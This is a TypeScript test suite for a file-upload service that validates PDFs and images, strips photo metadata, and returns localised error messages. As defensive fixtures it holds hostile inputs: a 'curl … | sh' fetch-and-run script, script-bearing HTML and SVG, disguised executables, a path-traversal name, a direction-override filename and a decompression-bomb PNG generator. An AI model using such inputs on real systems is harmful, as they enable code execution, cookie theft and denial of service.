import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { failure, file, pdf, photo, success, useUploadsApp } from '../../../tests/helpers/uploads.ts';
import { getI18n } from '../../platform/i18n/i18n.ts';
import { imageSrcset, MAX_NAME_LENGTH, prepareUpload, recordUpload, sanitizeFileName, uploadUrl } from './uploads.service.ts';

const MB = 1024 * 1024;
const { state, document, image, files, rows } = useUploadsApp();
const en = getI18n('en');
const de = getI18n('de');

describe('documents', () => {
  it('accepts a PDF and stores the same bytes once, with a row per upload', async () => {
    const bytes = pdf('annual report');
    const first = success(await document(file(bytes, 'Bürgerhaushalt Köln 2024.pdf', 'application/pdf')));
    const second = success(await document(file(bytes, 'copy.pdf', 'application/octet-stream')));
    const sha = createHash('sha256').update(bytes).digest('hex');
    assert.equal(first.sha256, sha);
    assert.equal(second.sha256, sha);
    assert.notEqual(first.id, second.id);
    assert.equal(first.mediaType, 'application/pdf');
    assert.equal(first.bytes, bytes.length);
    assert.equal(first.width, null);
    assert.equal(first.originalName, 'Bürgerhaushalt Köln 2024.pdf');
    assert.deepEqual(files(), [`${sha}.pdf`]); // one file, no temporary leftovers
    assert.deepEqual(readFileSync(join(state.dir, `${sha}.pdf`)), bytes);
    assert.equal((await rows(sha)).length, 2);
    assert.equal(uploadUrl(sha, 'document'), `/uploads/${sha}.pdf`);
  });

  it('refuses a 20 MB PDF with the size and the limit, in the reader’s language', async () => {
    const big = Buffer.alloc(20 * MB, 0x20);
    pdf('x').copy(big);
    const result = failure(await document(file(big, 'huge.pdf', 'application/pdf')));
    assert.equal(result.error, 'uploads.errors.tooLarge');
    assert.deepEqual(result.values, { sizeMb: 20, maxMb: 10 });
    assert.match(en.t(result.error, result.values), /^The file is 20 MB; the limit is 10 MB\./);
    assert.match(de.t(result.error, result.values), /^Die Datei ist 20 MB groß; erlaubt sind höchstens 10 MB\./);
    // Just over the limit never reads "10 MB; the limit is 10 MB".
    const justOver = failure(await document(file(Buffer.alloc(10 * MB + 1000), 'a.pdf')));
    assert.deepEqual(justOver.values, { sizeMb: 10.1, maxMb: 10 });
  });

  it('refuses programs, archives and other files named .pdf and declared application/pdf', async () => {
    const before = files();
    const impostors: Record<string, Buffer> = {
      'Windows program (MZ/PE)': Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(200), pdf('polyglot')]),
      'Linux program (ELF)': Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(100)]),
      'macOS program (Mach-O)': Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(100)]),
      'shell script': Buffer.from('#!/bin/sh\ncurl http://example.org/x | sh\n'),
      'zip or jar': Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100)]),
      'HTML page': Buffer.from('<html><script>alert(1)</script></html>'),
      'PDF header after junk': Buffer.concat([Buffer.from('junk\n'), pdf('late')]),
    };
    for (const [what, bytes] of Object.entries(impostors)) {
      const result = failure(await document(file(bytes, 'report.pdf', 'application/pdf')));
      assert.equal(result.error, 'uploads.errors.notPdf', what);
    }
    assert.match(en.t('uploads.errors.notPdf'), /^This file is not a PDF\./);
    assert.deepEqual(files(), before, 'nothing refused is written');
  });

  it('can check and store a file before the caller opens its transaction, and record it inside', async () => {
    const prepared = await prepareUpload(state.dir, { file: file(pdf('prepared'), 'plan.pdf'), kind: 'document' });
    assert.ok(prepared.ok);
    assert.ok(files().includes(`${prepared.file.sha256}.pdf`));
    assert.equal((await rows(prepared.file.sha256)).length, 0, 'not recorded yet');
    const recorded = await state.t.database.db.transaction().execute((trx) => recordUpload(trx, prepared.file, null));
    assert.equal(recorded.sha256, prepared.file.sha256);
    assert.equal((await rows(prepared.file.sha256))[0]?.id, recorded.id);
  });

  it('asks for a file when none was chosen', async () => {
    for (const empty of [file(new Uint8Array(0), ''), '', undefined]) {
      assert.equal(failure(await document(empty)).error, 'uploads.errors.noFile');
    }
    assert.equal(en.t('uploads.errors.noFile'), 'Please choose a file.');
  });

  it('keeps a display name without paths, control or direction-override characters, at most 200 characters', () => {
    assert.equal(sanitizeFileName('C:\\fakepath\\report.pdf', 'x'), 'report.pdf');
    assert.equal(sanitizeFileName('../../etc/passwd', 'x'), 'passwd');
    assert.equal(sanitizeFileName('invoice\u202Efdp.exe', 'x'), 'invoicefdp.exe');
    assert.equal(sanitizeFileName('a\u0000b\nc\td', 'x'), 'ab c d');
    assert.equal(sanitizeFileName('  ...hidden  ', 'x'), 'hidden');
    assert.equal(sanitizeFileName('/', 'fallback'), 'fallback');
    assert.equal(sanitizeFileName('تقرير المدينة.pdf', 'x'), 'تقرير المدينة.pdf');
    const long = sanitizeFileName(`${'ü'.repeat(300)}.pdf`, 'x');
    assert.equal([...long].length, MAX_NAME_LENGTH);
  });
});

describe('images', () => {
  it('re-encodes a large photo: at most 1600 px wide, metadata and GPS removed, a 640 px variant', async () => {
    const input = await photo(3000, 2000, { gps: true });
    assert.ok((await sharp(input).metadata()).exif, 'the test photo carries EXIF');
    const upload = success(await image(file(input, 'IMG_0001.JPG', 'image/jpeg')));
    assert.equal(upload.mediaType, 'image/jpeg');
    assert.equal(upload.width, 1600);
    assert.equal(upload.height, 1067);
    const stored = readFileSync(join(state.dir, `${upload.sha256}.jpg`));
    assert.equal(createHash('sha256').update(stored).digest('hex'), upload.sha256, 'named by the stored bytes');
    assert.equal(upload.bytes, stored.length);
    const meta = await sharp(stored).metadata();
    assert.equal(meta.format, 'jpeg');
    assert.equal(meta.width, 1600);
    assert.equal(meta.exif, undefined);
    assert.equal(meta.icc, undefined);
    assert.ok(!stored.includes('Jane Roe') && !stored.includes('PhoneCo'));
    const small = await sharp(readFileSync(join(state.dir, `${upload.sha256}-640.jpg`))).metadata();
    assert.equal(small.width, 640);
    assert.equal(small.exif, undefined);
    assert.equal(uploadUrl(upload.sha256, 'image', 'small'), `/uploads/${upload.sha256}-640.jpg`);
    assert.equal(imageSrcset(upload.sha256, 1600), `/uploads/${upload.sha256}-640.jpg 640w, /uploads/${upload.sha256}.jpg 1600w`);
  });

  it('turns a photo the right way up (EXIF orientation) and never enlarges a small one', async () => {
    const upload = success(await image(file(await photo(400, 300, { orientation: 6 }), 'sideways.jpg')));
    assert.equal(upload.width, 300);
    assert.equal(upload.height, 400);
    assert.equal(imageSrcset(upload.sha256, 300), `/uploads/${upload.sha256}.jpg 300w`);
  });

  it('accepts PNG (transparency on white) and WebP', async () => {
    const png = await sharp({ create: { width: 800, height: 600, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } } })
      .png()
      .toBuffer();
    const fromPng = success(await image(file(png, 'logo.png', 'image/png')));
    assert.equal(fromPng.width, 800);
    const { dominant } = await sharp(readFileSync(join(state.dir, `${fromPng.sha256}.jpg`))).stats();
    assert.ok(dominant.r > 240 && dominant.g > 240 && dominant.b > 240, 'transparent pixels become white');
    assert.equal((await sharp(readFileSync(join(state.dir, `${fromPng.sha256}-640.jpg`))).metadata()).width, 640);
    const webp = await sharp({ create: { width: 100, height: 80, channels: 3, background: '#884400' } })
      .webp()
      .toBuffer();
    assert.equal(success(await image(file(webp, 'x.webp'))).height, 80);
  });

  it('refuses SVG, named .svg or renamed .png, saying why and what works instead', async () => {
    const svg = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>';
    for (const [name, type] of [
      ['drawing.svg', 'image/svg+xml'],
      ['drawing.png', 'image/png'],
    ] as const) {
      assert.equal(failure(await image(file(svg, name, type))).error, 'uploads.errors.svg', name);
    }
    const message = en.t('uploads.errors.svg');
    assert.match(message, /SVG/);
    assert.match(message, /scripts/);
    assert.match(message, /JPEG, PNG or WebP/);
    assert.equal(failure(await document(file(svg, 'drawing.pdf', 'application/pdf'))).error, 'uploads.errors.notPdf');
  });

  it('refuses what is not a JPEG, PNG or WebP image, whatever its name', async () => {
    const cases: [Uint8Array | string, string, string][] = [
      ['just some text', 'photo.jpg', 'uploads.errors.notImage'],
      [Buffer.from('MZ\x90\x00program', 'latin1'), 'photo.jpg', 'uploads.errors.notImage'],
      [pdf('doc'), 'photo.jpg', 'uploads.errors.notImage'],
      [Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1'), 'anim.gif', 'uploads.errors.notImage'],
      [Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic\0\0\0\0mif1heic')]), 'IMG_1234.HEIC', 'uploads.errors.heic'],
      [Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(500, 0x41)]), 'broken.jpg', 'uploads.errors.imageUnreadable'],
    ];
    for (const [bytes, name, error] of cases) {
      assert.equal(failure(await image(file(bytes, name, 'image/jpeg'))).error, error, name);
    }
  });

  it('refuses a decompression bomb from its header, before decoding it', async () => {
    const result = failure(await image(file(pngHeader(20_000, 20_000), 'bomb.png', 'image/png')));
    assert.equal(result.error, 'uploads.errors.tooManyPixels');
    assert.deepEqual(result.values, { megapixels: 400, maxMegapixels: 50 });
    assert.match(en.t(result.error, result.values), /400 megapixels; the limit is 50/);
  });
});

/** A PNG that claims width × height but holds one empty row of data: tiny on disk, huge once decoded. */
function pngHeader(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', Buffer.from([0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01])),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
